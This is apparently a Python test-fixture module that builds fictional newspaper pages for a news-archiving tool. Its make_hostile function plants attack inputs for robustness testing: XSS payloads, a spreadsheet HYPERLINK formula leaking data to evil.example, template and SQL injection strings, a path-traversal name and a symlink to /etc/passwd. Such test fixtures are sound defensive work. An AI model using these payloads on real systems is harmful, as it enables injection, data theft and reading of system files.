"""A desk of five made-up papers, built by the real pipeline: stories that are copied and changed, pages refused.

make_newsroom(folder)     a desk with several runs; all texts are our own
make_hostile(folder)      a desk whose pages try to break out of the pages that show them
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from html import escape
from pathlib import Path

from tests.conftest import run_command

__all__ = ["HOSTILE_TITLE", "STORIES", "copydesk", "make_hostile", "make_newsroom", "page"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Story:
    """One story as its first paper printed it; paragraphs are set apart by a blank line."""

    slug: str
    section: str
    title: str
    author: str
    day: str
    text: str
    language: str = "en"

    @property
    def paragraphs(self) -> tuple[str, ...]:
        """Its paragraphs, each on one line."""
        return tuple(" ".join(part.split()) for part in self.text.strip().split("\n\n"))


STORIES = (
    Story(
        slug="harbour-wall",
        section="Harbour",
        author="Ines Okafor",
        day="2026-11-02T08:30",
        title="Council votes to raise the harbour wall by two metres",
        text="""
        The town council of Lindhaven voted on Monday to raise the old harbour wall by two metres before the next
        winter, after a debate that lasted until midnight.

        “We counted eleven nights of water in the streets last year, and we do not intend to count them again,” said
        Mayor Ruth Adeyemi, who had asked for the plan in spring.

        The work will cost 14 million crowns. Half of it comes from the coast fund, the rest from a levy on berths
        that fishermen had opposed.

        Jonas Brandt, who speaks for the harbour’s forty trawlers, said the levy would hit the smallest boats
        hardest. “A wall keeps the sea out,” he said. “It does not keep a crew in work.”

        Engineers will begin with the eastern quay in March, when the herring boats are out.
        """,
    ),
    Story(
        slug="night-train",
        section="Transport",
        author="Marek Vale",
        day="2026-11-03T06:10",
        title="Night train to the south returns after nine years",
        text="""
        A night train will again leave Lindhaven for the south on Fridays, nine years after the last sleeping car
        was sent to the scrapyard.

        The railway has bought twelve used carriages and fitted them with new berths, said its director, Helena
        Ostrow.

        Tickets begin at 39 crowns for a seat and 95 for a bed. The first three departures were sold out within a
        day.

        The line runs through the Karst tunnel, whose signals were replaced this summer.
        """,
    ),
    Story(
        slug="school-roof",
        section="Town",
        author="Ines Okafor",
        day="2026-11-05T12:00",
        title="School roof fails inspection for the third time",
        text="""
        The roof of the school at Mill Lane has failed its inspection for the third time, and 240 pupils will be
        taught in the town hall until Christmas.

        Inspectors found that two beams had been replaced with timber of the wrong grade. The builder denies it.

        “I would rather teach in a corridor than under that roof,” said Ana Ferro, who has taught there for twenty
        years.

        A second opinion is expected from the university next week, and the council has set aside 1.2 million
        crowns.
        """,
    ),
    Story(
        slug="seed-bank",
        section="Science",
        author="Tomas Lindqvist",
        day="2026-11-08T15:45",
        title="Seed bank in the old mine opens its doors to farmers",
        text="""
        Farmers can now borrow seeds from the bank in the old silver mine, which holds 8,300 kinds of grain and
        beans.

        Whoever borrows a handful brings back two after the harvest, said the bank’s keeper, Mira Solheim.

        The mine stays at four degrees all year without any cooling, which saves the bank most of its costs.

        In its first week forty farms asked for barley that had not been sown in the valley since 1953.
        """,
    ),
    Story(
        slug="bridge-toll",
        section="Transport",
        author="Marek Vale",
        day="2026-11-12T09:20",
        title="Bridge toll to fall by a third from January",
        text="""
        The toll on the strait bridge will fall by a third from January, the ministry of transport announced on
        Thursday.

        The loans for the bridge were paid back two years early, because more lorries crossed than anyone had
        expected.

        The ferry company fears for its winter service and has asked for talks.

        Cars will pay 18 crowns instead of 27, and bicycles cross for free.
        """,
    ),
    Story(
        slug="hafenkran",
        section="Hafen",
        author="Greta Thoms",
        day="2026-11-10T11:00",
        language="de",
        title="Der letzte Holzkran am Hafen wird gerettet",
        text="""
        Der letzte Holzkran am Hafen von Lindhaven wird nicht abgerissen, sondern an seinem alten Platz wieder
        aufgebaut.

        Das teilte der Denkmalrat am Dienstag mit, nachdem Schülerinnen und Schüler 6.000 Unterschriften gesammelt
        hatten.

        Der Kran hob bis 1964 Salz und Getreide, seine Eichenbalken sind älter als die Kirche am Markt.

        Die Arbeiten beginnen im Frühjahr und kosten 800.000 Kronen, von denen der Verein der Hafenfreunde ein
        Drittel trägt.
        """,
    ),
    Story(
        slug="miyah",
        section="محليات",
        author="ليلى منصور",
        day="2026-11-11T07:30",
        language="ar",
        title="عودة المياه النظيفة إلى ثلاث قرى بعد شهرين",
        text="""
        عادت المياه النظيفة إلى ثلاث قرى شمال المدينة بعد شهرين من الانقطاع، كما أعلنت هيئة المياه صباح الأربعاء.

        وقالت المهندسة سلمى حداد إن المضخة الجديدة تعمل بالطاقة الشمسية وتكفي أربعة آلاف نسمة.

        وكان السكان ينقلون الماء بالشاحنات من البلدة المجاورة، وهو ما كلف كل أسرة نحو خمسين ليرة في الأسبوع.

        ومن المقرر أن تصل الشبكة إلى قريتين أخريين قبل نهاية العام.
        """,
    ),
)

_PAPERS = {
    "courier": ("courier.example", "The Lindhaven Courier"),
    "strait": ("strait.example", "Strait Daily"),
    "valley": ("valley.example", "Valley Post"),
    "hafenblatt": ("hafenblatt.example", "Hafenblatt"),
    "north": ("north.example", "صوت الشمال"),
}
_FURNITURE = {
    "en": ("Home", "News", "Sport", "Weather", "Most read", "Sign up for our morning newsletter", "Share this article", "All rights reserved."),
    "de": ("Startseite", "Nachrichten", "Sport", "Wetter", "Meistgelesen", "Newsletter abonnieren", "Artikel teilen", "Alle Rechte vorbehalten."),
    "ar": ("الرئيسية", "أخبار", "رياضة", "الطقس", "الأكثر قراءة", "اشترك في النشرة البريدية", "شارك المقال", "جميع الحقوق محفوظة."),
}  # fmt: skip


def page(
    story: Story, paper: str, *, paragraphs: Sequence[str] | None = None, title: str | None = None,
    day: str | None = None, credit: str = "",
) -> str:  # fmt: skip
    """Return a story as the HTML of a paper's site, with menu, related links, newsletter box and footer."""
    domain, name = _PAPERS[paper]
    menu = _FURNITURE[story.language]
    moment = day or story.day
    others = [s for s in STORIES if s.language == story.language and s is not story][:3]
    body = "\n".join(f"<p>{escape(p)}</p>" for p in (paragraphs or story.paragraphs))
    heading = escape(title or story.title)
    return f"""<!doctype html><html lang="{story.language}"><head><meta charset="utf-8"><title>{heading} | {name}</title>
<link rel="canonical" href="https://{domain}/{story.slug}"><meta property="og:site_name" content="{name}">
<meta property="article:published_time" content="{moment}:00+00:00"><meta name="author" content="{story.author}">
<meta property="article:section" content="{story.section}"><link rel="stylesheet" href="https://cdn.{domain}/site.css">
<script src="https://cdn.{domain}/site.js"></script></head><body>
<header><a href="/"><img src="https://cdn.{domain}/logo.png" alt="{name}"></a>
<nav><ul>{"".join(f'<li><a href="/{n}">{m}</a></li>' for n, m in enumerate(menu[:4]))}</ul></nav></header>
<main><article><h1>{heading}</h1><p class="byline">{story.author}</p><time datetime="{moment}:00+00:00">{moment[:10]}</time>
<figure><img src="https://cdn.{domain}/{story.slug}.jpg" alt=""><figcaption>{heading}. Photo: {name}</figcaption></figure>
{body}
{f'<p class="source">{credit}</p>' if credit else ""}
<div class="share"><a href="/share">{menu[6]}</a></div></article>
<aside class="newsletter"><p>{menu[5]}</p></aside>
<section class="related"><h2>{menu[4]}</h2><ul>{"".join(f'<li><a href="/{o.slug}">{escape(o.title)}</a></li>' for o in others)}</ul></section>
</main><footer><p>© 2026 {name}. {menu[7]}</p></footer></body></html>"""


def make_newsroom(folder: Path) -> Path:
    """Make the desk: five papers, copies hours later, two changed texts, pages that are refused, saved queries."""
    desk = _desk(folder, _PAPERS)
    english, german, arabic = STORIES[:5], STORIES[5], STORIES[6]
    for story in english:
        _write(
            desk,
            "courier" if story.section != "Transport" else "strait",
            story.slug,
            page(story, "courier" if story.section != "Transport" else "strait"),
        )
    _write(desk, "hafenblatt", german.slug, page(german, "hafenblatt"))
    _write(desk, "north", arabic.slug, page(arabic, "north"))
    copydesk(desk, "run")

    wall, train, roof, seeds, toll = english
    _write(
        desk, "strait", wall.slug, page(wall, "strait", day="2026-11-02T14:05", credit="Source: The Lindhaven Courier")
    )
    _write(desk, "valley", wall.slug, page(wall, "valley", day="2026-11-03T07:40", paragraphs=wall.paragraphs[:4]))
    _write(
        desk,
        "valley",
        train.slug,
        page(train, "valley", day="2026-11-03T19:00", title="Sleeping cars are back: the night train returns"),
    )
    _write(desk, "courier", toll.slug, page(toll, "courier", day="2026-11-12T17:30"))
    _write(desk, "valley", toll.slug, page(toll, "valley", day="2026-11-13T06:00"))
    changed = (
        roof.paragraphs[0].replace("240 pupils", "310 pupils"),
        *roof.paragraphs[1:3],
        "The builder, Kestrel & Sons, has since withdrawn its bid for the library.",
        roof.paragraphs[3],
    )
    _write(
        desk,
        "courier",
        roof.slug,
        page(
            roof,
            "courier",
            paragraphs=changed,
            title="School roof fails inspection for the third time; builder withdraws",
        ),
    )
    _write(desk, "valley", "listing", _listing("valley"))
    _write(desk, "valley", "stub", page(seeds, "valley", paragraphs=("Watch the film.",), title="Film: the seed bank"))
    copydesk(desk, "run")

    changed = (
        *changed[:2],
        "“I would rather teach in a corridor than under that roof,” said Ana Ferro, a teacher.",
        *changed[3:],
    )
    _write(
        desk,
        "courier",
        roof.slug,
        page(roof, "courier", paragraphs=changed, title="School roof fails a third time; builder withdraws"),
    )
    _write(
        desk,
        "strait",
        "consent",
        "<html><head><title>Before you continue</title></head><body><div id='consent' role='dialog'><h1>We value your privacy</h1><p>We and our 812 partners store cookies.</p><button>Accept all</button></div></body></html>",
    )
    copydesk(desk, "run")
    queries = desk / "queries"
    queries.mkdir(exist_ok=True)
    (queries / "words-by-paper.sql").write_text(
        "-- Words printed, by paper\nselect publisher, sum(body_words) as words, count(*) as articles\nfrom latest_articles\ngroup by all\norder by words desc\n",
        encoding="utf-8",
    )
    (queries / "latest-changes.sql").write_text(
        "-- Texts that changed, latest first\nselect valid_from, publisher, title, paragraphs_edited\nfrom revision_log\nwhere number > 1\norder by valid_from desc\n",
        encoding="utf-8",
    )
    return desk


HOSTILE_TITLE = "</title><script>document.title='owned'</script>\"><img src=x onerror=alert(1)>"


def make_hostile(folder: Path) -> Path:
    """Make a desk whose titles, bodies, addresses and names are attacks."""
    desk = _desk(folder, {"courier": ("courier.example", "x"), "evil": ("evil.example", "x")})
    story = Story(
        slug="evil", section="<script>section</script>", title=HOSTILE_TITLE, author="<b onclick=alert(2)>Eve</b>",
        day="2026-11-02T08:30",
        text="""
        The harbour master said <script>document.title='owned'</script> that the harbour would be closed for a
        week, and nobody objected.

        =HYPERLINK("https://evil.example/?leak="&A1,"The fishermen") were told to move their boats before the
        storm arrived on Friday.

        {{ 7777*7777 }} {% for x in ().__class__.__base__.__subclasses__() %} boats lay at the quay, \u202eand nobody
        counted them\u202c that night.

        The ferry sailed on \x00time with ' or 1=1; drop table articles; -- painted on its side, witnesses said.
        """,
    )  # fmt: skip
    html = page(story, "courier").replace(
        "<head>",
        '<head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="preconnect" href="https://evil.example">',
    )
    _write(desk, "courier", "evil", html)
    _write(desk, "evil", "other", page(STORIES[0], "strait"))
    _write(desk, "evil", "..%2f..%2fetc%2fpasswd", page(STORIES[1], "strait"))
    _write(desk, "evil", "<img src=x onerror=alert(3)>", "<html><title>no</title><body>short</body></html>")
    copydesk(desk, "run")
    queries = desk / "queries"
    queries.mkdir()
    (queries / "<script>alert(4)<!--.sql").write_text(
        "-- </textarea><script>alert(5)</script>\nselect '</textarea><script>alert(6)</script>' as \"<b>c</b>\"\n",
        encoding="utf-8",
    )
    (queries / "passwd.sql").symlink_to("/etc/passwd")
    return desk


def copydesk(desk: Path, *words: str, codes: Iterable[int] = (0, 1, 3)) -> str:
    """Run a command in a desk; return what it printed."""
    done = run_command(*words, cwd=desk)
    assert done.code in codes, done.err
    return done.out


def _desk(folder: Path, papers: dict[str, tuple[str, str]]) -> Path:
    folder.mkdir(parents=True)
    sources = []
    for number, (paper, (domain, _)) in enumerate(papers.items()):
        name = paper.replace('"', '\\"')
        sources.append(
            f'[[source]]\nname = "{name}"\npaths = ["inbox/{number}"]\npublisher = "{domain}"\nschedule = "0 6 * * *"\n'
        )
        (folder / "inbox" / str(number)).mkdir(parents=True)
        (folder / "inbox" / f"{number}.name").write_text(paper, encoding="utf-8")
    (folder / "copydesk.toml").write_text(
        "\n".join(sources) + "\n[run]\nworkers = 1\n\n[quality]\nmax_quarantined = 1.0\n", encoding="utf-8"
    )
    return folder


def _write(desk: Path, paper: str, slug: str, html: str) -> None:
    (number,) = [p.stem for p in (desk / "inbox").glob("*.name") if p.read_text(encoding="utf-8") == paper]
    (desk / "inbox" / number / f"{slug.replace('/', '%2f')}.html").write_text(html, encoding="utf-8")


def _listing(paper: str) -> str:
    items = "".join(f'<li><a href="/{s.slug}">{escape(s.title)}</a></li>' for s in STORIES * 4)
    return f"<!doctype html><html><head><title>News | {_PAPERS[paper][1]}</title></head><body><h1>News</h1><ul>{items}</ul></body></html>"
